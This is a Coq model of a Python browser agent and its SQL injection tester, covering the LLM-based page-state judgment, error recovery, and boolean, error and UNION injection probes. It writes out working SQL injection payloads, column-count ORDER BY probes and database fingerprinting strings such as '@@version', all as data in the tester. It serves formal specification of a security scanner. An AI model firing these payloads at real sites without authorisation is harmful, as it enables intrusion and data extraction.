     messages := a.(messages); calls := a.(calls) |}.



(** One call of the session: the next state, and the call recorded. *)
Definition issue {A : Type} (c : Session.call) (f : W -> A * W) (a : t) : A * t :=
  let '(r, w) := f a.(world) in
  (r,
   {| world := w; state_tracker := a.(state_tracker);
      auto_recovery := a.(auto_recovery);
      error_recovery_level := a.(error_recovery_level);
      use_vision := a.(use_vision); test_framework := a.(test_framework);
      messages := a.(messages); calls := (a.(calls) ++ [c])%list |}).

Definition page_url (a : t) : string := io.(Session.page_url) a.(world).
Definition now (a : t) : Z := io.(Session.clock) a.(world).


Definition tracker_mark_error (u details : string) (a : t) : t :=
  set_tracker (BrowserStateTracker.mark_error u details (now a) a.(state_tracker)) a.

(** *** [_analyze_sql_error] *)


(** *** [_detect_page_error] *)




(** *** [_ask_llm_about_page_state] *)

Definition normal_keywords : list string :=
  ["正常"; "成功"; "正确"; "有效"; "主页"; "控制面板"; "仪表盘";
   "欢迎"; "welcome"; "dashboard"; "菜单"; "导航栏"; "功能页面"; "登录页"].

Definition error_keywords : list string :=
  ["错误"; "失败"; "异常"; "无效"; "sql错误"; "syntax error";
   "database error"; "not found"; "forbidden"; "空白页面"; "404"; "500"].

(** The reading of the answer of the model: the verdict ([Some true] for
    a normal page, [Some false] for an abnormal one, [None] when it cannot
    tell) and the reason. *)
Definition judge_answer (ai_response page_content : string) : option bool * string :=
  if (PyStr.contains "状态:正常" ai_response
      || PyStr.contains "状态：正常" ai_response)%bool
  then (Some true, PyStr.first_line ai_response)
  else if (PyStr.contains "状态:错误" ai_response
           || PyStr.contains "状态：错误" ai_response)%bool
  then (Some false, PyStr.first_line ai_response)
  else
    let low := PyStr.lower ai_response in
    let normal_match := PyStr.contains_any normal_keywords low in
    let error_match := PyStr.contains_any error_keywords low in
    if (normal_match && negb error_match)%bool
    then (Some true, "AI判断页面状态正常: " ++ PyStr.first_line ai_response)
    else if (error_match && negb normal_match)%bool
    then (Some false, "AI判断页面状态异常: " ++ PyStr.first_line ai_response)
    else if (PyStr.contains "欢迎" page_content
             || PyStr.contains "Welcome" page_content)%bool
    then (Some true, "页面包含欢迎信息，判定为正常状态")
    else if PyStr.contains_any ["SQL syntax"; "mysql_fetch"; "未找到"; "拒绝访问"]
                               page_content
    then (Some false, "页面包含明确的错误信息，判定为异常状态")
    else (None, "AI无法确定页面状态，使用规则判断").

(** [os.getenv('SILICONFLOW_API_KEY')] is set and not empty. *)
Definition has_api_key (a : t) : bool :=
  match io.(Session.getenv_api_key) a.(world) with
  | Some key => PyStr.truthy key
  | None => false
  end.

Definition _ask_llm_about_page_state (page_content : string)
    (screenshot_base64 : option string) (a : t) : (option bool * string) * t :=
  if negb (has_api_key a) then
    ((Some false, "无法使用LLM判断页面状态，请使用规则判断"), a)
  else
    (* the title is read for the prompt; a failure is ignored *)
    let '(_, a1) := issue (Session.CallOther "title") io.(Session.title) a in
    let '(response, a2) :=
      issue Session.CallChat (io.(Session.post_chat) page_content screenshot_base64) a1 in
    match response with
    | Raises e => ((None, "请求AI判断失败: " ++ e), a2)
    | Returns r =>
        if negb (r.(Session.status_code) =? 200) then
          ((Some false, "API请求失败，使用规则判断"), a2)
        else
          match r.(Session.body) with
          | Session.Unreadable e => ((None, "解析AI响应出错: " ++ e), a2)
          | Session.NoChoices => ((Some false, "API响应格式错误，使用规则判断"), a2)
          | Session.Answer ai_response => (judge_answer ai_response page_content, a2)
          end
    end.

(** *** [_handle_error_with_recovery] *)

(** The recovery URL when it is set and not empty ([if recovery_url:]). *)
Definition usable_recovery_url (a : t) : option string :=
  match BrowserStateTracker.get_recovery_url a.(state_tracker) with
  | Some u => if PyStr.truthy u then Some u else None
  | None => None
  end.

(** The two navigations of an attempt: to the recovery URL when there is
    one, then back in the history when that failed or there was none. *)
Definition attempt_recovery (command_results : list string) (a : t)
    : bool * list string * t :=
  let recovery_url := usable_recovery_url a in
  let log0 := (command_results ++ ["严重错误或连续错误，正在自动恢复..."])%list in
  let '(recovered, log1, a1) :=
    match recovery_url with
    | Some u =>
        match issue (Session.CallGoto u) (io.(Session.goto) u) a with
        | (Returns _, a') => (true, (log0 ++ [("已自动恢复到稳定页面: " ++ u)%string])%list, a')
        | (Raises e, a') => (false, (log0 ++ [("自动恢复失败: " ++ e)%string])%list, a')
        end
    | None => (false, log0, a)
    end in
  if recovered then (true, log1, a1)
  else
    match issue Session.CallGoBack io.(Session.go_back) a1 with
    | (Returns _, a') => (true, (log1 ++ ["已使用浏览器后退功能返回上一页"])%list, a')
    | (Raises e, a') => (false, (log1 ++ [("使用后退按钮失败: " ++ e)%string])%list, a')
    end.

(** The suggestion for a manual recovery, when there is one to make: at
    level 2 or more the recovery URL, at level 1 the hint of the tracker. *)
Definition manual_suggestion (error_level : Z) (a : t) : option string :=
  if error_level >=? 2 then
    match usable_recovery_url a with
    | Some u => Some ("建议立即返回到稳定页面: GOTO " ++ u ++ " 或使用BACK命令")
    | None => None
    end
  else if error_level =? 1 then
    let suggestion := BrowserStateTracker.get_suggestion a.(state_tracker) in
    if PyStr.truthy suggestion then Some suggestion else None
  else None.

(** The end of the method when no recovery was performed. *)
Definition suggest_recovery (error_level : Z) (command_results : list string)
    (a : t) : list string :=
  match manual_suggestion error_level a with
  | Some suggestion => (command_results ++ [suggestion])%list
  | None => command_results
  end.

(** The first statements of the method: the error is marked on the
    tracker when the page has a URL. *)
Definition mark_first (error_message : string) (a : t) : t :=
  if PyStr.truthy (page_url a)
  then tracker_mark_error (page_url a) error_message a else a.

Definition _handle_error_with_recovery (error_message : string) (error_level : Z)
    (command_results : list string) (a : t) : bool * list string * t :=
  let a1 := mark_first error_message a in
  let log1 := (command_results ++ [("检测到错误: " ++ error_message)%string])%list in
  let '(recovered, log2, a2) :=
    if a1.(auto_recovery)
       && ((error_level >=? a1.(error_recovery_level))
           || BrowserStateTracker.should_auto_recover a1.(state_tracker))
    then
      if (error_level >=? 3)
         || (a1.(state_tracker).(BrowserStateTracker.consecutive_errors) >=? 2)
      then attempt_recovery log1 a1
      else (false, log1, a1)
    else (false, log1, a1) in
  if recovered then (true, log2, a2)
  else (false, suggest_recovery error_level log2 a2, a2).

(** *** The recovery policy as the specification words it *)

(** Rollback is attempted when auto-recovery is enabled, the level
    reaches the threshold or the tracker asks for recovery, and the level
    is 3 or more or two errors or more came in a row. *)
Definition should_attempt (error_level : Z) (a : t) : bool :=
  (a.(auto_recovery)
   && ((error_level >=? a.(error_recovery_level))
       || BrowserStateTracker.should_auto_recover a.(state_tracker))
   && ((error_level >=? 3)
       || (a.(state_tracker).(BrowserStateTracker.consecutive_errors) >=? 2)))%bool.

(** The navigations of an attempt: to the recovery URL when there is one,
    then back in the history when that failed or there was none. *)
Definition prescribed_navigation (a : t) : list Session.call :=
  match usable_recovery_url a with
  | Some u =>
      match fst (io.(Session.goto) u a.(world)) with
      | Returns _ => [Session.CallGoto u]
      | Raises _ => [Session.CallGoto u; Session.CallGoBack]
      end
  | None => [Session.CallGoBack]
  end.

(** The first of these navigations that succeeds, if any does. *)
Definition navigation_succeeds (a : t) : bool :=
  let back_succeeds (w : W) :=
    match fst (io.(Session.go_back) w) with
    | Returns _ => true
    | Raises _ => false
    end in
  match usable_recovery_url a with
  | Some u =>
      match io.(Session.goto) u a.(world) with
      | (Returns _, _) => true
      | (Raises _, w') => back_succeeds w'
      end
  | None => back_succeeds a.(world)
  end.

(** *** [_execute_commands] *)

(** The agent with the local variables of one call of
    [_execute_commands]. *)
Record batch := {
  agent : t;
  command_results : list string;
  error_detected : bool;
  recovery_executed : bool;
  sql_error_detected : bool
}.

Definition start (a : t) : batch :=
  {| agent := a; command_results := []; error_detected := false;
     recovery_executed := false; sql_error_detected := false |}.

Definition with_agent (a : t) (b : batch) : batch :=
  {| agent := a; command_results := b.(command_results);
     error_detected := b.(error_detected);
     recovery_executed := b.(recovery_executed);
     sql_error_detected := b.(sql_error_detected) |}.


(** A step of a handler: it returns or raises, in a next batch. *)
Definition step (A : Type) : Type := batch -> outcome A * batch.

Definition ret {A : Type} (x : A) : step A := fun b => (Returns x, b).

Definition bind {A B : Type} (m : step A) (k : A -> step B) : step B :=
  fun b =>
    match m b with
    | (Returns x, b') => k x b'
    | (Raises e, b') => (Raises e, b')
    end.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).
Notation "m ;;; k" := (bind m (fun _ => k))
  (at level 61, right associativity).

(** A call of the session that may raise. *)
Definition perform {A : Type} (c : Session.call) (f : W -> outcome A * W) : step A :=
  fun b => let '(r, a') := issue c f b.(agent) in (r, with_agent a' b).


(** A method of the agent that does not raise. *)
Definition run_agent {A : Type} (f : t -> A * t) : step A :=
  fun b => let '(r, a') := f b.(agent) in (Returns r, with_agent a' b).



Definition read {A : Type} (f : batch -> A) : step A := fun b => (Returns (f b), b).









(** How many times the rule-based classifier has run: it opens with the
    read of the HTTP status, which nothing else issues. *)
Definition is_status_read (c : Session.call) : bool :=
  match c with Session.CallStatus => true | _ => false end.

Definition rule_runs (b : batch) : nat :=
  List.length (List.filter is_status_read b.(agent).(calls)).


(** The handlers of SELECT, TYPE, SCROLLDOWN, SCROLLUP, WAIT and
    SCREENSHOT, and the search for a fallback selector after a failed
    click, are parameters of the model.  Each runs to completion on the
    agent and the log: none holds a [break] or a [return], and what one
    raises is caught inside the loop body.  Their result also says whether
    a page error and whether an SQL error was seen (SCREENSHOT sets these
    two flags; no handler clears them or touches [recovery_executed]). *)
Variable plain_handler :
  string -> list string -> t -> (list string * bool * bool) * t.
Variable click_fallback :
  string -> string -> list string -> t -> list string * t.





Definition count (what : string) : step Z :=
  perform (Session.CallOther "locator.count") (io.(Session.locator_count) what).














End WithSession.
End Agent.

(** ** The rule-based classification as the specification words it

  A snapshot of page signals and the first matching case of the fixed
  order, to compare with [Agent._detect_page_error]. *)

Module PageRules.






End PageRules.

(** ** [SQLInjectionTester]

    The page as the testers drive it, and the three tests of an input
    point.  An exception of [get_page_text] or [go_back] leaves the test, as
    in the source; [_input_and_submit] swallows its own. *)

Module SQLInjectionTester.

(** The calls of the page, as recorded. *)
Inductive call :=
| Fill (selector value : string)
| FindForm (selector : string)
| FindSubmit
| ClickSubmit
| Press (selector key : string)
| InnerText
| GoBack.

Record ops (W : Type) := {
  fill : string -> string -> W -> outcome unit * W;
  find_form : string -> W -> outcome bool * W;
  find_submit : W -> outcome bool * W;
  click_submit : W -> outcome unit * W;
  press : string -> string -> W -> outcome unit * W;
  inner_text : W -> outcome string * W;
  go_back : W -> outcome unit * W;
  sleep : W -> W
}.

(** An entry of [test_results["details"]]. *)
Record detail := {
  step_name : string;
  status : string;
  message : string
}.

(** An input point, as the dictionaries of the collectors hold it. *)
Record input_point := {
  selector : string;
  input_type : string;
  name : string;
  id : string;
  is_vulnerable : bool;
  vulnerability_types : option (list string)
}.

(** The dictionary a test returns; [columns] is 0 where the source has no
    such key. *)
Record results := {
  vulnerable : bool;
  details : string;
  payload : string;
  columns : Z
}.

Definition no_finding : results :=
  {| vulnerable := false; details := EmptyString; payload := EmptyString; columns := 0 |}.

Definition boolean_based : list string :=
  ["1' AND '1'='1"; "1' AND '1'='2"; "1 AND 1=1"; "1 AND 1=2"].

Definition error_based : list string :=
  ["'"; PyStr.dquote; PyStr.backslash; "1'"; "1" ++ PyStr.dquote; "1)"].

Definition error_keywords : list string :=
  ["sql syntax"; "syntax error"; "unclosed quotation"; "unterminated string";
   "mysql_fetch"; "mysql error"; "sql error"; "odbc error"; "oracle error";
   "incorrect syntax"; "unexpected token"; "unexpected end"; "invalid query";
   "database error"].

Definition order_by_bases : list string :=
  ["' ORDER BY"; PyStr.dquote ++ " ORDER BY"; ") ORDER BY"].

Definition error_indicators : list string := ["error"; "unknown"; "invalid"].

Section WithPage.

Variable W : Type.
Variable page : ops W.

Record t := {
  world : W;
  test_details : list detail;
  column_count : Z;
  calls : list call
}.

Definition step (A : Type) : Type := t -> outcome A * t.

Definition ret {A : Type} (x : A) : step A := fun s => (Returns x, s).

Definition bind {A B : Type} (m : step A) (k : A -> step B) : step B :=
  fun s =>
    match m s with
    | (Returns x, s') => k x s'
    | (Raises e, s') => (Raises e, s')
    end.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).
Notation "m ;;; k" := (bind m (fun _ => k))
  (at level 61, right associativity).

(** One call of the page, recorded. *)
Definition perform {A : Type} (c : call) (f : W -> outcome A * W) : step A :=
  fun s =>
    let '(r, w) := f s.(world) in
    (r, {| world := w; test_details := s.(test_details);
           column_count := s.(column_count);
           calls := (s.(calls) ++ [c])%list |}).

(** [await asyncio.sleep(1)] *)
Definition pause : step unit :=
  fun s =>
    (Returns tt, {| world := page.(sleep) s.(world); test_details := s.(test_details);
                    column_count := s.(column_count); calls := s.(calls) |}).

(** [record_test_result] *)
Definition record_test_result (d : detail) : step unit :=
  fun s =>
    (Returns tt, {| world := s.(world);
                    test_details := (s.(test_details) ++ [d])%list;
                    column_count := s.(column_count); calls := s.(calls) |}).

Definition set_column_count (n : Z) : step unit :=
  fun s =>
    (Returns tt, {| world := s.(world); test_details := s.(test_details);
                    column_count := n; calls := s.(calls) |}).

(** [get_page_text] *)
Definition get_page_text : step string := perform InnerText page.(inner_text).

Definition back : step unit := perform GoBack page.(go_back).

(** The [try] body of [_input_and_submit]. *)
Definition submit_body (sel value : string) : step unit :=
  perform (Fill sel EmptyString) (page.(fill) sel EmptyString) ;;;
  perform (Fill sel value) (page.(fill) sel value) ;;;
  form <- perform (FindForm sel) (page.(find_form) sel) ;;
  submit_button <- (if form then perform FindSubmit page.(find_submit) else ret false) ;;
  if submit_button then perform ClickSubmit page.(click_submit)
  else perform (Press sel "Enter") (page.(press) sel "Enter").

(** [_input_and_submit]: whatever the body raises is ignored. *)
Definition _input_and_submit (sel value : string) : step unit :=
  fun s => (Returns tt, snd (submit_body sel value s)).

(** *** [_test_boolean_injection] *)

(** One payload: submit, wait, read the page, go back, wait. *)
Definition response_to (sel value : string) : step string :=
  _input_and_submit sel value ;;;
  pause ;;;
  content <- get_page_text ;;
  back ;;;
  pause ;;;
  ret content.

(** The loop over the pairs of a true and a false condition. *)
Fixpoint boolean_pairs (sel : string) (payloads : list string) : step results :=
  match payloads with
  | true_payload :: false_payload :: rest =>
      true_content <- response_to sel true_payload ;;
      false_content <- response_to sel false_payload ;;
      if (negb (String.eqb true_content false_content)
          && ((PyStr.len true_content - PyStr.len false_content >? 50)
              || PyStr.contains "no results" (PyStr.lower false_content)))%bool
      then ret {| vulnerable := true;
                  details := "布尔型测试成功 - 正条件(" ++ true_payload
                             ++ ")与负条件(" ++ false_payload ++ ")的响应不同";
                  payload := true_payload;
                  columns := 0 |}
      else boolean_pairs sel rest
  | _ => ret no_finding
  end.

Definition _test_boolean_injection (sel original_content : string) : step results :=
  boolean_pairs sel boolean_based.

(** *** [_test_error_injection] *)

Fixpoint error_payloads (sel : string) (payloads : list string) : step results :=
  match payloads with
  | [] => ret no_finding
  | value :: rest =>
      _input_and_submit sel value ;;;
      pause ;;;
      error_content <- get_page_text ;;
      let found := List.find (fun keyword => PyStr.contains keyword (PyStr.lower error_content))
                             error_keywords in
      back ;;;
      pause ;;;
      match found with
      | Some keyword =>
          ret {| vulnerable := true;
                 details := "错误型测试成功 - 载荷(" ++ value ++ ")触发了SQL错误：" ++ keyword;
                 payload := value;
                 columns := 0 |}
      | None => error_payloads sel rest
      end
  end.

Definition _test_error_injection (sel original_content : string) : step results :=
  error_payloads sel error_based.

(** *** [_test_union_injection] *)

(** The inner loop, for one [i]: the ORDER BY probe with each base, until a
    response holds an error indicator; then [column_count = i - 1] and the
    probe that found it. *)
Fixpoint order_by_bases_loop (sel : string) (i : Z) (bases : list string)
    : step (option (Z * string)) :=
  match bases with
  | [] => ret None
  | base :: rest =>
      let value := base ++ " " ++ PyStr.of_Z i ++ "-- " in
      _input_and_submit sel value ;;;
      pause ;;;
      content <- get_page_text ;;
      if PyStr.contains_any error_indicators (PyStr.lower content)
      then ret (Some (i - 1, value))
      else back ;;; pause ;;; order_by_bases_loop sel i rest
  end.

(** The outer loop over [i], left when [column_count > 0]. *)
Fixpoint order_by_loop (sel : string) (indices : list Z) (column_count : Z)
    (column_payload : string) : step (Z * string) :=
  match indices with
  | [] => ret (column_count, column_payload)
  | i :: rest =>
      found <- order_by_bases_loop sel i order_by_bases ;;
      let '(count, probe) :=
        match found with
        | Some r => r
        | None => (column_count, column_payload)
        end in
      if count >? 0 then ret (count, probe)
      else order_by_loop sel rest count probe
  end.

(** [range(1, n + 1)] *)
Definition one_to (n : Z) : list Z :=
  List.map (fun k => Z.of_nat k + 1) (List.seq 0 (Z.to_nat n)).

(** The column discovery: [max_columns = 10]. *)
Definition discover_columns (sel : string) : step (Z * string) :=
  order_by_loop sel (one_to 10) 0 EmptyString.

(** The first placeholder that shows in the response and not in the
    baseline. *)
Definition reflected (column_count : Z) (union_content original_content : string)
    : bool :=
  List.existsb
    (fun i => (PyStr.contains (PyStr.of_Z i) union_content
               && negb (PyStr.contains (PyStr.of_Z i) original_content))%bool)
    (one_to column_count).

Definition _test_union_injection (sel original_content : string) : step results :=
  discovered <- discover_columns sel ;;
  let column_count := fst discovered in
  if column_count >? 0 then
    let union_values := PyStr.join "," (List.map PyStr.of_Z (one_to column_count)) in
    let union_payload := "' UNION SELECT " ++ union_values ++ "-- " in
    _input_and_submit sel union_payload ;;;
    pause ;;;
    union_content <- get_page_text ;;
    back ;;;
    pause ;;;
    if reflected column_count union_content original_content
    then ret {| vulnerable := true;
                details := "UNION型测试成功 - 确定列数为" ++ PyStr.of_Z column_count
                           ++ "，并且可以回显数据";
                payload := union_payload;
                columns := column_count |}
    else ret no_finding
  else ret no_finding.

(** *** [_test_input_point] *)

(** [input_point.get('name', '') or input_point.get('id', '') or selector] *)
Definition label_of (p : input_point) : string :=
  if PyStr.truthy p.(name) then p.(name)
  else if PyStr.truthy p.(id) then p.(id)
  else p.(selector).

(** [input_point["is_vulnerable"] = True] with the new list of types. *)
Definition mark_vulnerable (types : list string) (p : input_point) : input_point :=
  {| selector := p.(selector); input_type := p.(input_type); name := p.(name);
     id := p.(id); is_vulnerable := true; vulnerability_types := Some types |}.

(** The list with one more type, created when the key is missing. *)
Definition with_type (tag : string) (p : input_point) : list string :=
  match p.(vulnerability_types) with
  | Some types => (types ++ [tag])%list
  | None => [tag]
  end.

Definition finding (idx : Z) (technique : string) (text : string) : detail :=
  {| step_name := "testing_input_" ++ PyStr.of_Z idx ++ technique;
     status := "warning";
     message := text |}.

(** The first entry of a test: the input point under test. *)
Definition announcement (p : input_point) (idx : Z) : detail :=
  {| step_name := "testing_input_" ++ PyStr.of_Z idx;
     status := "info";
     message := "正在测试输入点: " ++ label_of p |}.

(** The value is the verdict with the input point as the test leaves it. *)
Definition _test_input_point (p : input_point) (idx : Z) : step (bool * input_point) :=
  let sel := p.(selector) in
  record_test_result (announcement p idx) ;;;
  original_content <- get_page_text ;;
  bool_results <- _test_boolean_injection sel original_content ;;
  if bool_results.(vulnerable) then
    record_test_result
      (finding idx "_boolean" ("发现布尔型SQL注入漏洞: " ++ bool_results.(details))) ;;;
    ret (true, mark_vulnerable ["sql_injection_boolean"] p)
  else
    error_results <- _test_error_injection sel original_content ;;
    if error_results.(vulnerable) then
      record_test_result
        (finding idx "_error" ("发现错误型SQL注入漏洞: " ++ error_results.(details))) ;;;
      ret (true, mark_vulnerable (with_type "sql_injection_error" p) p)
    else
      union_results <- _test_union_injection sel original_content ;;
      if union_results.(vulnerable) then
        record_test_result
          (finding idx "_union" ("发现UNION型SQL注入漏洞: " ++ union_results.(details))) ;;;
        set_column_count union_results.(columns) ;;;
        ret (true, mark_vulnerable (with_type "sql_injection_union" p) p)
      else ret (false, p).

(** *** [verify_vulnerability] *)

Definition verify_error_keywords : list string :=
  ["sql syntax"; "mysql error"; "sql error"; "odbc error"; "oracle error"].

(** The first placeholder of [range(1, 10)] that shows in the response and
    not in the baseline. *)
Definition echoed_position (injected_content original_content : string) : option Z :=
  List.find
    (fun i => (PyStr.contains (PyStr.of_Z i) injected_content
               && negb (PyStr.contains (PyStr.of_Z i) original_content))%bool)
    (one_to 9).

Definition verify_vulnerability (input_selector value : string) : step results :=
  original_content <- get_page_text ;;
  _input_and_submit input_selector value ;;;
  pause ;;;
  injected_content <- get_page_text ;;
  let result :=
    if PyStr.contains_any verify_error_keywords (PyStr.lower injected_content)
    then {| vulnerable := true; details := "载荷触发了SQL错误";
            payload := value; columns := 0 |}
    else {| vulnerable := false; details := EmptyString;
            payload := value; columns := 0 |} in
  let result' :=
    if PyStr.contains "union select" (PyStr.lower value) then
      match echoed_position injected_content original_content with
      | Some i =>
          {| vulnerable := true;
             details := "UNION查询成功，检测到回显位置 (" ++ PyStr.of_Z i ++ ")";
             payload := value; columns := 0 |}
      | None => result
      end
    else result in
  back ;;;
  pause ;;;
  ret result'.

(** A fresh tester on a page. *)
Definition start (w : W) : t :=
  {| world := w; test_details := []; column_count := 0; calls := [] |}.

(** The payloads filled into the page, in order (the empty text that
    clears the field apart). *)
Definition probes (s : t) : list string :=
  List.flat_map
    (fun c => match c with
              | Fill _ value => if PyStr.truthy value then [value] else []
              | _ => []
              end)
    s.(calls).

End WithPage.
End SQLInjectionTester.

(** ** [SQLInjectionTester.test]: the run over the input points

    The part of the tester around the test of one input point: the state
    of [BaseTester], the recognition of the database and the extraction of
    its description.  The agent gives the page (or none), its URL and the
    input points it collects; the collection is a call of the agent.  The
    regular expressions of the version are read on ASCII digits and word
    characters. *)

Module SQLInjectionRun.

(** *** Texts *)

(** [s.split(newline)] *)
Fixpoint lines_from (current : string -> string) (s : string) : list string :=
  match s with
  | EmptyString => [current EmptyString]
  | String c rest =>
      if Ascii.eqb c (ascii_of_nat 10)
      then current EmptyString :: lines_from (fun t => t) rest
      else lines_from (fun t => current (String c t)) rest
  end.

Definition lines (s : string) : list string := lines_from (fun t => t) s.

(** [s.split(",")] *)
Fixpoint comma_parts_from (current : string -> string) (s : string) : list string :=
  match s with
  | EmptyString => [current EmptyString]
  | String c rest =>
      if Ascii.eqb c ","%char
      then current EmptyString :: comma_parts_from (fun t => t) rest
      else comma_parts_from (fun t => current (String c t)) rest
  end.

Definition comma_parts (s : string) : list string := comma_parts_from (fun t => t) s.

Definition is_digit (c : ascii) : bool :=
  let n := nat_of_ascii c in (Nat.leb 48 n && Nat.leb n 57)%bool.

Definition is_word (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (is_digit c || (Nat.leb 65 n && Nat.leb n 90) || (Nat.leb 97 n && Nat.leb n 122)
   || Nat.eqb n 95)%bool.

(** The longest prefix of digits, and what follows it. *)
Fixpoint take_digits (s : string) : string * string :=
  match s with
  | EmptyString => (EmptyString, EmptyString)
  | String c rest =>
      if is_digit c
      then let '(d, r) := take_digits rest in (String c d, r)
      else (EmptyString, s)
  end.

(** [\d+] at the head of the text. *)
Definition digits_at (s : string) : option (string * string) :=
  let '(d, r) := take_digits s in
  if PyStr.truthy d then Some (d, r) else None.

(** A literal at the head of the text, and what follows it. *)
Definition after_literal (lit s : string) : option string :=
  if String.prefix lit s then Some (PyStr.drop (String.length lit) s) else None.

(** [(\d+\.\d+\.\d+)] at the head of the text: the group. *)
Definition mysql_version_at (s : string) : option string :=
  match digits_at s with
  | Some (d1, r1) =>
      match after_literal "." r1 with
      | Some r2 =>
          match digits_at r2 with
          | Some (d2, r3) =>
              match after_literal "." r3 with
              | Some r4 =>
                  match digits_at r4 with
                  | Some (d3, _) => Some (d1 ++ "." ++ d2 ++ "." ++ d3)
                  | None => None
                  end
              | None => None
              end
          | None => None
          end
      | None => None
      end
  | None => None
  end.

(** [Microsoft SQL Server (\d+)] at the head of the text. *)
Definition mssql_version_at (s : string) : option string :=
  match after_literal "Microsoft SQL Server " s with
  | Some r =>
      match digits_at r with
      | Some (d, _) => Some d
      | None => None
      end
  | None => None
  end.

(** [Oracle Database (\d+\w?)] at the head of the text. *)
Definition oracle_version_at (s : string) : option string :=
  match after_literal "Oracle Database " s with
  | Some r =>
      match digits_at r with
      | Some (d, String c _) => if is_word c then Some (d ++ String c EmptyString) else Some d
      | Some (d, EmptyString) => Some d
      | None => None
      end
  | None => None
  end.

(** [re.search]: the match at the leftmost position that has one. *)
Fixpoint search {A : Type} (at_head : string -> option A) (s : string) : option A :=
  match at_head s with
  | Some x => Some x
  | None =>
      match s with
      | EmptyString => None
      | String _ rest => search at_head rest
      end
  end.

(** *** The tester and its agent *)

Section WithAgent.

Variable W : Type.

(** What [test] asks of the agent: the page, when the browser has one, its
    URL, and the input points of the page ([collect_input_points], through
    the site analyzer or the basic detection). *)
Record agent := {
  page : option (SQLInjectionTester.ops W);
  page_url : W -> string;
  collect_input_points : W -> outcome (list SQLInjectionTester.input_point) * W
}.

(** An entry of [found_vulnerabilities]. *)
Record vulnerability := {
  input_point : SQLInjectionTester.input_point;
  kind : string;
  description : string
}.

(** The tester: the state of one input-point test, with the database
    type, [test_results["status"]] and the two lists of findings. *)
Record t := {
  tester : SQLInjectionTester.t W;
  db_type : string;
  status : string;
  found_vulnerabilities : list vulnerability;
  vulnerable_points : list vulnerability
}.

(** [__init__] *)
Definition init (w : W) : t :=
  {| tester := SQLInjectionTester.start w;
     db_type := EmptyString;
     status := "not_started";
     found_vulnerabilities := [];
     vulnerable_points := [] |}.

Definition step (A : Type) : Type := t -> outcome A * t.

Definition ret {A : Type} (x : A) : step A := fun s => (Returns x, s).

Definition bind {A B : Type} (m : step A) (k : A -> step B) : step B :=
  fun s =>
    match m s with
    | (Returns x, s') => k x s'
    | (Raises e, s') => (Raises e, s')
    end.

Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity).
Notation "m ;;; k" := (bind m (fun _ => k))
  (at level 61, right associativity).

Definition with_tester (c : SQLInjectionTester.t W) (s : t) : t :=
  {| tester := c; db_type := s.(db_type); status := s.(status);
     found_vulnerabilities := s.(found_vulnerabilities);
     vulnerable_points := s.(vulnerable_points) |}.

(** A step of the test of an input point, run inside the tester. *)
Definition lift {A : Type} (m : SQLInjectionTester.step W A) : step A :=
  fun s => let '(r, c) := m s.(tester) in (r, with_tester c s).

Definition read {A : Type} (f : t -> A) : step A := fun s => (Returns (f s), s).

Definition set_db_type (ty : string) : step unit :=
  fun s =>
    (Returns tt,
     {| tester := s.(tester); db_type := ty; status := s.(status);
        found_vulnerabilities := s.(found_vulnerabilities);
        vulnerable_points := s.(vulnerable_points) |}).

Definition set_status (st : string) : step unit :=
  fun s =>
    (Returns tt,
     {| tester := s.(tester); db_type := s.(db_type); status := st;
        found_vulnerabilities := s.(found_vulnerabilities);
        vulnerable_points := s.(vulnerable_points) |}).

(** [record_test_result] *)
Definition record_test_result (step_name st text : string) : step unit :=
  lift (SQLInjectionTester.record_test_result
          {| SQLInjectionTester.step_name := step_name;
             SQLInjectionTester.status := st;
             SQLInjectionTester.message := text |}).

(** [record_vulnerability] *)
Definition record_vulnerability (v : vulnerability) : step unit :=
  fun s =>
    (Returns tt,
     {| tester := s.(tester); db_type := s.(db_type); status := "vulnerable";
        found_vulnerabilities := (s.(found_vulnerabilities) ++ [v])%list;
        vulnerable_points := (s.(vulnerable_points) ++ [v])%list |}).

(** The dictionary [get_test_results] returns. *)
Record summary := {
  summary_name : string;
  summary_description : string;
  summary_status : string;
  vulnerabilities_found : Z;
  summary_details : list SQLInjectionTester.detail;
  summary_points : list vulnerability
}.

(** [get_test_results] *)
Definition get_test_results (s : t) : summary :=
  {| summary_name := "sql_injection";
     summary_description := "SQL注入漏洞测试";
     summary_status := s.(status);
     vulnerabilities_found := Z.of_nat (List.length s.(found_vulnerabilities));
     summary_details := List.firstn 5 s.(tester).(SQLInjectionTester.test_details);
     summary_points := s.(vulnerable_points) |}.

(** *** [_determine_db_type] *)

Section OnPage.

Variable pg : SQLInjectionTester.ops W.

(** Submit a value, wait, read the page. *)
Definition response (sel value : string) : step string :=
  lift (SQLInjectionTester._input_and_submit pg sel value) ;;;
  lift (SQLInjectionTester.pause pg) ;;;
  lift (SQLInjectionTester.get_page_text pg).

(** [await page.go_back(); await asyncio.sleep(1)] *)
Definition leave : step unit :=
  lift (SQLInjectionTester.back pg) ;;;
  lift (SQLInjectionTester.pause pg).

Definition shows_error (content : string) : bool :=
  PyStr.contains "error" (PyStr.lower content).

Definition _determine_db_type (sel : string) : step unit :=
  set_db_type "mysql" ;;;
  content <- response sel "' AND @@version-- " ;;
  if negb (shows_error content) then set_db_type "mysql" ;;; leave
  else
    leave ;;;
    content <- response sel "' AND @@SERVERNAME-- " ;;
    if negb (shows_error content) then set_db_type "mssql" ;;; leave
    else
      leave ;;;
      content <- response sel "' AND ROWNUM=1-- " ;;
      if negb (shows_error content) then set_db_type "oracle" ;;; leave
      else leave.

(** *** The analysis of the responses *)

(** [patterns.get(self.db_type, patterns["mysql"])], as a matcher. *)
Definition version_at (ty : string) : string -> option string :=
  if String.eqb ty "mssql" then mssql_version_at
  else if String.eqb ty "oracle" then oracle_version_at
  else mysql_version_at.

Definition _analyze_db_version (content : string) : step unit :=
  ty <- read db_type ;;
  match search (version_at ty) content with
  | Some version => record_test_result "db_info" "info" ("数据库版本: " ++ version)
  | None => ret tt
  end.

(** A line that may be a name: not empty, shorter than 30 characters, no
    markup and no assignment. *)
Definition plain_line (line : string) : bool :=
  ((PyStr.len line >? 0) && (PyStr.len line <? 30)
   && negb (PyStr.startswith "<" line) && negb (PyStr.contains "=" line))%bool.

Definition first_plain_line (content : string) : option string :=
  List.find plain_line (List.map PyStr.strip (lines content)).

Definition report_name (label content : string) : step unit :=
  match first_plain_line content with
  | Some line => record_test_result "db_info" "info" (label ++ line)
  | None => ret tt
  end.
